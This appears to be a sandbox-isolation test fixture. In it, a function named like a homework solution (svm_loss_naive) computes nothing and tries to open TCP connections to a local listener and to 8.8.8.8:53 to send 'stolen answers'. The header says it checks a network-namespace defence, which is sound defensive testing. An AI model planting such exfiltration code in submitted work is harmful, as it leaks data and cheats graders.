# ruff: noqa
# (Notebook cells glued together, not one module: the linter's rules do not apply.)
# Attack: send data out over the network (to a listener the test runs on 127.0.0.1; its port
# arrives as `reg`). Defence: the child has its own network namespace with no interface up.


# --- cell: svm_loss_naive
import socket


def svm_loss_naive(W, X, y, reg):
    results = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", int(reg))),
                            (socket.AF_INET, ("8.8.8.8", 53))):
        try:
            with socket.socket(family, socket.SOCK_STREAM) as s:
                s.settimeout(2)
                s.connect(address)
                s.sendall(b"stolen answers")
                results.append(f"{address}: sent")
        except OSError as exc:
            results.append(f"{address}: {exc}")
    raise RuntimeError(" | ".join(results))
